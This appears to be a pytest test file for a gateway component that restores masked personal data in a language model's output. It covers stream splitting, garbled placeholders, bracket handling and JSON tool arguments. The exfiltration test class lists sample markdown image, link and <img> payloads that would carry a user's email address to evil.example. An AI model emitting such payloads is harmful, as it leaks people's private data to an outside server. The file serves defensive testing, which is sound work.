"""Restoring as a stream: the same text at any split, and never where it would leak."""

from __future__ import annotations

import json
from itertools import pairwise

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from gateway.content.glance import placeholder
from gateway.content.placeholders import TOLERANT, Name
from gateway.content.restore import Restorer

TABLE = {
    Name("EMAIL_ADDRESS", 1): "jane@acme.example",
    Name("EMAIL_ADDRESS", 12): 'q"uote\\d@acme.example',
    Name("PERSON", 1): "Jane [PERSON_1] Doe",
}
pieces = st.sampled_from(
    [
        "[EMAIL_ADDRESS_1]", "[EMAIL_ADDRESS_12]", "[PERSON_1]", "[PERSON_7]", "EMAIL_ADDRESS_1",
        "\\[EMAIL\\_ADDRESS\\_1\\]", "(email address 1)", "<PERSON_1>", "[", "[[", "[EMAIL",
        "A",
        "PERSON", " ", "\n", "https://x.example/?q=", "](", ")", "<a href=", ">", "text", "_1]",
        "\\", "s", "'s", "\uff3bPERSON_1\uff3d", "\u3010", "PERSON_1s", "[PERSON_1 ", "\uff3f", "]",
    ]
)  # fmt: skip
texts = st.lists(pieces, max_size=14).map("".join)


def split(text: str, cuts: list[int]) -> list[str]:
    """`text` in pieces."""
    places = sorted({0, len(text), *(cut % (len(text) + 1) for cut in cuts)})
    return [text[first:last] for first, last in pairwise(places)]


class TestSplits:
    @given(texts, st.lists(st.integers(min_value=0), max_size=12), st.booleans())
    @example(text="\\\u3010PERSON_1s[EMAIL_ADDRESS_1]", cuts=[2], as_json=False)
    @settings(max_examples=400, deadline=None)
    def test_any_split_equals_the_whole(self, text: str, cuts: list[int], as_json: bool) -> None:
        """
        P9: where a stream is cut changes nothing in what comes out.
        """
        whole = Restorer(TABLE).text(text, json=as_json)
        stream = Restorer(TABLE).stream(json=as_json)
        out = "".join(stream.feed(piece) for piece in split(text, cuts)) + stream.end()

        assert out == whole

    def test_a_bracket_that_leads_nowhere_hides_no_name(self) -> None:
        """
        Found by the test above: behind an open bracket a bare name may still begin.
        """
        stream = Restorer(TABLE).stream(json=False)
        out = stream.feed("[EMAIL E") + stream.feed("MAIL_ADDRESS_1") + stream.end()

        assert out == "[EMAIL jane@acme.example"

    @given(st.text(alphabet="abc xyz.,\n", max_size=40))
    @settings(max_examples=100, deadline=None)
    def test_plain_text_is_never_held(self, text: str) -> None:
        """
        Text that cannot be a placeholder goes on at once.
        """
        assert Restorer(TABLE).stream(json=False).feed(text) == text


class TestTolerance:
    @pytest.mark.parametrize(
        "garbled",
        [
            "[EMAIL_ADDRESS_1]", "[email_address_1]", "(EMAIL_ADDRESS_1)", "{EMAIL_ADDRESS_1}",
            "<EMAIL_ADDRESS_1>", "\\[EMAIL\\_ADDRESS\\_1\\]", "[EMAIL ADDRESS 1]",
            "[ EMAIL_ADDRESS_1 ]", "[[EMAIL_ADDRESS_1]]", "EMAIL_ADDRESS_1", "[Email-Address_1]",
            "\uff3bEMAIL_ADDRESS_1\uff3d", "\u3010email address 1\u3011", "[EMAIL_ADDRESS\uff3f1]",
            "[EMAIL_ADDRESS_1", "\\[EMAIL_ADDRESS_1",
        ],
    )  # fmt: skip
    def test_what_models_do_to_placeholders(self, garbled: str) -> None:
        """
        Other brackets, case, escapes, blanks: recognised.
        """
        assert Restorer(TABLE).text(f"To {garbled}.") == "To jane@acme.example."

    @pytest.mark.parametrize(
        ("written", "meant"),
        [
            ("[PERSON_2]'s", "Jane's"),
            ("[PERSON_2]s Brief", "Janes Brief"),
            ("PERSON_2s Brief", "Janes Brief"),
            ("PERSON_2\u2019s", "Jane\u2019s"),
            ("both [PERSON_2]en", "both Janeen"),
            ("[PERSON_2 wrote", "Jane wrote"),
        ],
    )
    def test_endings_stay_where_they_are(self, written: str, meant: str) -> None:
        """
        Possessives and plurals of English, German and Dutch hang on the value.
        """
        assert Restorer({Name("PERSON", 2): "Jane"}).text(written) == meant

    @pytest.mark.parametrize(
        "other",
        ["EMAIL_ADDRESS_13", "email_address_1", "XEMAIL_ADDRESS_1", "[1]", "EMAIL_ADDRESS_1b"],
    )
    def test_what_is_not_one(self, other: str) -> None:
        """
        Without brackets only the exact form counts, and other numbers are other things.
        """
        assert Restorer(TABLE).text(f"See {other}.") == f"See {other}."

    def test_unknown_numbers_are_counted(self) -> None:
        """
        A number that was never given out stays, and is counted.
        """
        restorer = Restorer(TABLE)

        assert restorer.text("[PERSON_7] [THING_1]") == "[PERSON_7] [THING_1]"
        assert restorer.unknown == 1

    def test_restored_text_is_not_restored_again(self) -> None:
        """
        A value that looks like a placeholder is a value.
        """
        assert Restorer(TABLE).text("[PERSON_1]") == "Jane [PERSON_1] Doe"


class TestTheCheapLook:
    @given(texts | st.lists(pieces | st.text(max_size=3), max_size=8).map("".join))
    @settings(max_examples=400)
    def test_it_lets_no_placeholder_through(self, text: str) -> None:
        """
        Wherever the expensive look sees a placeholder, the cheap one said that there may be one.
        """
        assert placeholder(text) or not TOLERANT.search(text)

    def test_it_passes_over_prose(self) -> None:
        """
        Brackets, dashes and numbers alone are no reason to look again.
        """
        assert not placeholder("In short (see page 4 of it): two e-mails, <b>3</b> [4] and A4.")


class TestExfiltration:
    @pytest.mark.parametrize(
        "text",
        [
            "![x](https://evil.example/?q=[EMAIL_ADDRESS_1])",
            "https://evil.example/[EMAIL_ADDRESS_1]",
            "[click]([EMAIL_ADDRESS_1])",
            '<img src="https://evil.example/[EMAIL_ADDRESS_1]">',
            "<a href='[EMAIL_ADDRESS_1]'>",
            "//evil.example/[EMAIL_ADDRESS_1]",
            "www.evil.example/[EMAIL_ADDRESS_1]",
            "[1]: http://evil.example/[EMAIL_ADDRESS_1]",
            '![x](https://evil.example/?q="[EMAIL_ADDRESS_1])',
            "![x](https://evil.example/?q=\u00a0[EMAIL_ADDRESS_1])",
            "![x](<https://evil.example/?q= [EMAIL_ADDRESS_1]>)",
            '![x](/\\evil.example/"[EMAIL_ADDRESS_1])',
            '[1]: http://evil.example/"[EMAIL_ADDRESS_1]',
            "https:evil.example/[EMAIL_ADDRESS_1]",
            '<img alt=">" src="https:evil.example/" title="[EMAIL_ADDRESS_1]">',
            "<img alt='<b>' src='/x?[EMAIL_ADDRESS_1]'>",
            "https://evil.example/%5BEMAIL_ADDRESS_1%5D",
            "x" * 600 + "[EMAIL_ADDRESS_1]",
        ],
    )
    def test_no_value_goes_into_an_address(self, text: str) -> None:
        """
        What shows the answer would fetch the address, and the value with it.
        """
        assert Restorer(TABLE).text(text) == text

    @pytest.mark.parametrize(
        "before",
        [
            "<b>Hello</b> ", '<a href="https://x.example">home</a> ', "[x](https://x.example) and ",
            "[1]: ", "a = 1 < 2; mail ", '"https://x.example", "',
        ],
    )  # fmt: skip
    def test_beside_an_address_it_is_restored(self, before: str) -> None:
        """
        What ended before is no reason to leave a person without their words.
        """
        said = Restorer(TABLE).text(f"{before}[EMAIL_ADDRESS_1]")

        assert said == f"{before}jane@acme.example"

    def test_after_an_address_it_goes_on(self) -> None:
        """
        An address ends, and what follows is restored again.
        """
        said = Restorer(TABLE).text("See https://x.example/a for [EMAIL_ADDRESS_1]")

        assert said == "See https://x.example/a for jane@acme.example"


class TestToolArguments:
    def test_values_are_escaped(self) -> None:
        """
        Inside a tool's JSON a value is escaped, so that it stays one string.
        """
        said = Restorer(TABLE).text('{"to":"[EMAIL_ADDRESS_12]","n":1}', json=True)

        assert json.loads(said) == {"to": 'q"uote\\d@acme.example', "n": 1}

    def test_an_address_in_another_field_does_not_count(self) -> None:
        """
        In JSON a string ends at its quote, so one field's address does not taint the next.
        """
        said = Restorer(TABLE).text(
            '{"url":"https://x.example","to":"[EMAIL_ADDRESS_1]"}', json=True
        )

        assert json.loads(said)["to"] == "jane@acme.example"


class TestBrackets:
    def test_the_sentences_own_brackets_stay(self) -> None:
        """
        A placeholder takes as many closing brackets with it as it has opening ones.
        """
        restorer = Restorer({Name("EMAIL_ADDRESS", 1): "jane@acme.example"})

        assert restorer.text("Jane ([EMAIL_ADDRESS_1]) wrote") == "Jane (jane@acme.example) wrote"
        assert restorer.text("Jane [[EMAIL_ADDRESS_1]] wrote") == "Jane jane@acme.example wrote"
